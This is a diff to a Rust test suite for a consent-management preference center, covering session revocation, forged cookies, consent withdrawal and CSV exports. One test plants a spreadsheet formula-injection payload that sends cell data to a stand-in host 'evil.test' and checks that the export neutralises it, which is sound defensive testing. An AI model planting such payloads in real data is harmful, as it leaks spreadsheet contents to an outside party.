@@ -12,7 +12,7 @@ use kept_core::ledger::{CollectionMethod, ConsentAction, ConsentRecord, decode};
 use kept_server::app::AppState;
 use kept_server::prefcenter::mail::{Mail, Mailer};
 use kept_server::prefcenter::{PrefCenter, PrefCenterConfig};
-use kept_store::Role;
+use kept_store::{NewSubject, Role};
 use serde_json::{Value, json};
 use std::sync::{Arc, Mutex};
 
@@ -27,7 +27,19 @@ struct Center {
 
 impl Center {
     async fn new() -> Center {
-        let app = TestApp::new().await;
+        Center::around(TestApp::new().await).await
+    }
+
+    /// A center on `manifest` instead of the demo's, with `extra` subjects beside the usual.
+    async fn with(manifest: kept_core::manifest::Manifest, extra: Vec<NewSubject>) -> Center {
+        let mut app = TestApp::new().await;
+        let added = app.store.insert_subjects(extra).await.unwrap();
+        app.subjects.extend(added);
+        app.restart_with(manifest).await;
+        Center::around(app).await
+    }
+
+    async fn around(app: TestApp) -> Center {
         let (mailer, sent) = Mailer::memory();
         let state = app.state.clone().with_prefcenter(PrefCenter::new(
             PrefCenterConfig {
@@ -549,10 +561,16 @@ async fn email_opt_in_counts_only_once_confirmed() {
     assert_eq!(given.method, CollectionMethod::DoubleOptIn);
     assert_eq!(given.notice.as_ref().unwrap().id, "newsletter");
     assert_eq!(center.decide(subject, newsletter).await, "allowed.consent");
-    // The promise: the email now has a provenance under the newsletter notice too.
+    // The promise: the email now has a provenance under the newsletter notice too, at the
+    // preference center's own form, the one the customer used.
     let traits = center.app.store.traits(subject).await.unwrap();
     assert!(
         traits
+            .iter()
+            .any(|t| t.provenance.collection_point == "email_preferences")
+    );
+    assert!(
+        !traits
             .iter()
             .any(|t| t.provenance.collection_point == "newsletter_signup")
     );
@@ -773,7 +791,7 @@ async fn an_erasure_request_is_stored_with_its_deadline_and_stops_every_use() {
     let filed = browser
         .post(&center, "/preferences/erase", &[("confirm", "yes")])
         .await;
-    assert_eq!(filed.status, StatusCode::SEE_OTHER);
+    assert_eq!(filed.status, StatusCode::OK, "{}", filed.text);
     let requests = center.app.store.erasure_requests(subject).await.unwrap();
     assert_eq!(requests.len(), 1);
     assert_eq!(requests[0].regime, "gdpr");
@@ -788,10 +806,26 @@ async fn an_erasure_request_is_stored_with_its_deadline_and_stops_every_use() {
             .await,
         "denied.erasure_pending"
     );
-    let page = browser.get(&center, "/preferences").await;
+    // The answer says so, and ends the session: the page with the data no longer opens.
     assert!(
-        page.text
-            .contains("You asked us to delete your data on 2026-05-28")
+        filed
+            .text
+            .contains("You asked us to delete your data on 2026-05-28"),
+        "{}",
+        filed.text
+    );
+    assert!(
+        filed.headers[header::SET_COOKIE]
+            .to_str()
+            .unwrap()
+            .starts_with("kept_prefs=;")
+    );
+    let page = browser.get(&center, "/preferences").await;
+    assert_eq!(page.status, StatusCode::SEE_OTHER);
+    assert!(location(&page).starts_with("/preferences/sign-in"));
+    assert_eq!(
+        browser.get(&center, "/preferences/data.json").await.status,
+        StatusCode::UNAUTHORIZED
     );
     let api = center
         .api(
@@ -1129,4 +1163,324 @@ async fn mail_settings_come_from_the_environment_and_the_password_stays_secret()
     assert!(Mailer::from_config(&demo, "x").unwrap().can_send());
     let plain = Config::load(None, &Env::default(), &Flags::new()).unwrap();
     assert!(!Mailer::from_config(&plain, "x").unwrap().can_send());
+}
+
+#[tokio::test]
+async fn signing_out_ends_the_session_on_the_server() {
+    let center = Center::new().await;
+    let subject = center.subject(0);
+    let browser = center.browser(subject).await;
+    // A copy of the cookie, as an attacker who read it would hold.
+    let copy = Browser {
+        cookie: browser.cookie.clone(),
+        csrf: browser.csrf.clone(),
+    };
+    assert_eq!(
+        copy.get(&center, "/preferences/data.json").await.status,
+        StatusCode::OK
+    );
+
+    let out = browser.post(&center, "/preferences/sign-out", &[]).await;
+    assert_eq!(out.status, StatusCode::SEE_OTHER);
+    assert!(location(&out).starts_with("/preferences/sign-in"));
+
+    // Still within the cookie's two hours, still correctly signed: refused all the same.
+    let page = copy.get(&center, "/preferences").await;
+    assert_eq!(page.status, StatusCode::SEE_OTHER);
+    assert!(location(&page).starts_with("/preferences/sign-in"));
+    for path in ["/preferences/data.json", "/preferences/data.csv"] {
+        let data = copy.get(&center, path).await;
+        assert_eq!(data.status, StatusCode::UNAUTHORIZED, "{path}");
+        assert!(!data.text.contains("\"traits\""), "{path}");
+    }
+    let post = copy
+        .post(&center, "/preferences/erase", &[("confirm", "yes")])
+        .await;
+    assert_eq!(post.status, StatusCode::UNAUTHORIZED);
+    assert!(
+        center
+            .app
+            .store
+            .erasure_requests(subject)
+            .await
+            .unwrap()
+            .is_empty()
+    );
+}
+
+#[tokio::test]
+async fn a_new_sign_in_link_ends_the_older_sessions() {
+    let center = Center::new().await;
+    let subject = center.subject(0);
+    let old = center.browser(subject).await;
+    let other = center.browser(center.subject(1)).await;
+    let new = center.browser(subject).await;
+    assert_eq!(
+        old.get(&center, "/preferences/data.json").await.status,
+        StatusCode::UNAUTHORIZED
+    );
+    assert_eq!(
+        new.get(&center, "/preferences/data.json").await.status,
+        StatusCode::OK
+    );
+    // Another customer's session is not touched.
+    assert_eq!(
+        other.get(&center, "/preferences/data.json").await.status,
+        StatusCode::OK
+    );
+}
+
+#[tokio::test]
+async fn a_cookie_for_a_session_the_server_never_opened_opens_nothing() {
+    let center = Center::new().await;
+    let subject = center.subject(0);
+    // A correctly signed session cookie (the secret leaked, or minted before this change) whose
+    // id the store does not know.
+    let keys = center
+        .state
+        .prefcenter
+        .keys(center.app.store.as_ref())
+        .await
+        .unwrap();
+    let claims = kept_server::prefcenter::token::Claims::new(
+        kept_server::prefcenter::token::Kind::Session,
+        subject,
+        NOW + 60 * MINUTE,
+    );
+    let cookie = format!("kept_prefs={}", keys.sign(&claims));
+    let page = send(
+        center.router(),
+        get_page("/preferences/data.json", Some(&cookie)),
+    )
+    .await;
+    assert_eq!(page.status, StatusCode::UNAUTHORIZED);
+}
+
+#[tokio::test]
+async fn csv_exports_defuse_formulas_planted_in_traits() {
+    let center = Center::new().await;
+    let subject = center.subject(0);
+    let user_id = "u1";
+    let answer = send(
+        center.router(),
+        Request::post("/v1/identify")
+            .header(
+                header::AUTHORIZATION,
+                format!("Bearer {}", center.app.key(Role::Collect)),
+            )
+            .header(header::CONTENT_TYPE, "application/json")
+            .body(Body::from(
+                json!({
+                    "userId": user_id,
+                    "traits": { "name": "=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")" },
+                    "context": { "kept": { "collection_point": "checkout" } }
+                })
+                .to_string(),
+            ))
+            .unwrap(),
+    )
+    .await;
+    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text);
+    let browser = center.browser(subject).await;
+    let csv = browser.get(&center, "/preferences/data.csv").await;
+    assert_eq!(csv.status, StatusCode::OK, "{}", csv.text);
+    let row = csv
+        .text
+        .lines()
+        .find(|l| l.starts_with("trait,name,"))
+        .unwrap_or_else(|| panic!("a row for the name: {}", csv.text));
+    assert!(
+        row.starts_with("trait,name,\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,"),
+        "{row}"
+    );
+    // No cell of the export starts a formula.
+    for line in csv.text.lines() {
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(!cell.starts_with(['=', '+', '@', '\t']), "{line}");
+        }
+    }
+}
+
+/// The link of the latest mail, once the mailer (off the request) has sent one.
+async fn next_mail_link(center: &Center, before: usize) -> String {
+    for _ in 0..200 {
+        let mails = center.mails();
+        if mails.len() > before {
+            return link_in(mails.last().unwrap());
+        }
+        tokio::task::yield_now().await;
+        tokio::time::sleep(std::time::Duration::from_millis(10)).await;
+    }
+    panic!("no mail was sent");
+}
+
+/// Asks for the newsletter by email from the preference page and confirms it from the mail.
+async fn subscribe_and_confirm(center: &Center, subject: SubjectId) {
+    let browser = center.browser(subject).await;
+    let before = center.mails().len();
+    let asked = browser
+        .post(
+            center,
+            "/preferences/messages",
+            &[("topic", "email:newsletter")],
+        )
+        .await;
+    assert_eq!(asked.status, StatusCode::SEE_OTHER, "{}", asked.text);
+    let link = next_mail_link(center, before).await;
+    let confirmed = send(
+        center.router(),
+        form_post(
+            "/preferences/confirm",
+            &[("token", &token_of(&link))],
+            None,
+            &[("origin", ORIGIN)],
+        ),
+    )
+    .await;
+    assert_eq!(confirmed.status, StatusCode::OK, "{}", confirmed.text);
+    let last = center.records(subject).await.pop().unwrap();
+    assert_eq!(last.action, ConsentAction::Given);
+    assert_eq!(last.method, CollectionMethod::DoubleOptIn);
+}
+
+#[tokio::test]
+async fn a_confirmed_subscription_never_records_a_collection_point_the_customer_did_not_use() {
+    // A manifest whose purchase form shows the newsletter's notice too, and sorts first.
+    let mut manifest = crate::support::demo_manifest();
+    let mut purchase = manifest.collection_points["checkout"].clone();
+    purchase.notice = "newsletter".into();
+    purchase.name = "Quick purchase".into();
+    manifest
+        .collection_points
+        .insert("a_quick_purchase".into(), purchase);
+    let center = Center::with(
+        manifest,
+        vec![crate::support::new_subject("u4", Some("CA"), None)],
+    )
+    .await;
+    let offers = |channel: &str| json!({ "purpose": "marketing.communications", "channel": channel, "topic": "offers" });
+    // A newsletter-only subscriber in the EU and one in Canada.
+    for (i, user, email) in [(0, "u1", "ada@example.com"), (3, "u4", "cal@example.ca")] {
+        let subject = center.subject(i);
+        center.give_email(user, email, "newsletter_signup").await;
+        let before = center.decide(subject, offers("email")).await;
+        assert!(before.starts_with("denied."), "{user}: {before}");
+
+        subscribe_and_confirm(&center, subject).await;
+
+        let traits = center.app.store.traits(subject).await.unwrap();
+        let points: Vec<&str> = traits
+            .iter()
+            .map(|t| t.provenance.collection_point.as_str())
+            .collect();
+        assert!(
+            !points.contains(&"a_quick_purchase"),
+            "{user}: no purchase was made: {points:?}"
+        );
+        assert!(points.contains(&"email_preferences"), "{user}: {points:?}");
+        // Neither a soft opt-in "customer" (EU) nor implied consent from a purchase (Canada):
+        // offers were never asked for.
+        let after = center.decide(subject, offers("email")).await;
+        assert!(after.starts_with("denied."), "{user}: {after}");
+    }
+}
+
+#[tokio::test]
+async fn a_no_to_something_never_given_is_refused_and_a_no_to_a_given_consent_withdraws_it() {
+    // A checkout whose notice says customers get emails about similar products.
+    let mut manifest = crate::support::demo_manifest();
+    manifest
+        .notices
+        .get_mut("checkout")
+        .unwrap()
+        .purposes
+        .push("marketing.communications".into());
+    let center = Center::with(manifest, Vec::new()).await;
+    let subject = center.subject(0); // Germany: marketing email needs consent.
+    center.give_email("u1", "ada@example.com", "checkout").await;
+    let offers = json!({
+        "purpose": "marketing.communications", "channel": "email", "topic": "offers"
+    });
+    // Allowed as a soft opt-in, though no consent was ever given.
+    assert_eq!(
+        center.decide(subject, offers.clone()).await,
+        "allowed.soft_opt_in"
+    );
+    let browser = center.browser(subject).await;
+    let page = browser.get(&center, "/preferences").await;
+    assert!(page.text.contains("email:offers"), "{}", page.text);
+    // Every box left unticked: a "no" to offers, which were never consented to.
+    let no = browser.post(&center, "/preferences/messages", &[]).await;
+    assert_eq!(no.status, StatusCode::SEE_OTHER, "{}", no.text);
+    let records = center.records(subject).await;
+    let last = records.last().unwrap();
+    assert_eq!(last.topic.as_deref(), Some("offers"));
+    assert_eq!(last.action, ConsentAction::Refused, "{records:#?}");
+    assert!(
+        !records.iter().any(|r| r.action == ConsentAction::Withdrawn),
+        "nothing given, nothing withdrawn: {records:#?}"
+    );
+    assert_eq!(center.decide(subject, offers).await, "denied.unsubscribed");
+
+    // A consent that was given is withdrawn.
+    subscribe_and_confirm(&center, subject).await;
+    let browser = center.browser(subject).await;
+    let no = browser.post(&center, "/preferences/messages", &[]).await;
+    assert_eq!(no.status, StatusCode::SEE_OTHER, "{}", no.text);
+    let last = center.records(subject).await.pop().unwrap();
+    assert_eq!(last.topic.as_deref(), Some("newsletter"));
+    assert_eq!(last.action, ConsentAction::Withdrawn);
+}
+
+#[tokio::test]
+async fn a_topic_is_shown_and_recorded_with_the_notice_it_names() {
+    // Two notices promise marketing email; the offers topic names the second.
+    let mut manifest = crate::support::demo_manifest();
+    let mut promo = manifest.notices["newsletter"].clone();
+    promo.locales.get_mut("en").unwrap().title = "Offers by email".into();
+    manifest.notices.insert("promo_mail".into(), promo);
+    manifest.topics.get_mut("offers").unwrap().notice = Some("promo_mail".into());
+    let center = Center::with(manifest, Vec::new()).await;
+    let subject = center.subject(0);
+    center
+        .give_email("u1", "ada@example.com", "newsletter_signup")
+        .await;
+    let prefs = center
+        .api(
+            "GET",
+            &format!("/v1/subjects/{}/preferences", subject.0),
+            None,
+        )
+        .await;
+    assert_eq!(prefs.status, StatusCode::OK, "{}", prefs.text);
+    let topics = prefs.json["channels"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|c| c["channel"] == "email")
+        .unwrap()["topics"]
+        .as_array()
+        .unwrap()
+        .clone();
+    let notice_of =
+        |topic: &str| topics.iter().find(|t| t["topic"] == topic).unwrap()["notice"]["id"].clone();
+    assert_eq!(notice_of("offers"), "promo_mail", "{topics:#?}");
+    assert_eq!(notice_of("newsletter"), "newsletter", "{topics:#?}");
+    let browser = center.browser(subject).await;
+    let page = browser.get(&center, "/preferences").await;
+    assert!(page.text.contains("Offers by email"), "the page shows it");
+    let before = center.mails().len();
+    let asked = browser
+        .post(
+            &center,
+            "/preferences/messages",
+            &[("topic", "email:offers")],
+        )
+        .await;
+    assert_eq!(asked.status, StatusCode::SEE_OTHER, "{}", asked.text);
+    let _ = next_mail_link(&center, before).await;
+    let pending = center.records(subject).await.pop().unwrap();
+    assert_eq!(pending.action, ConsentAction::Pending);
+    assert_eq!(pending.notice.unwrap().id, "promo_mail");
 }
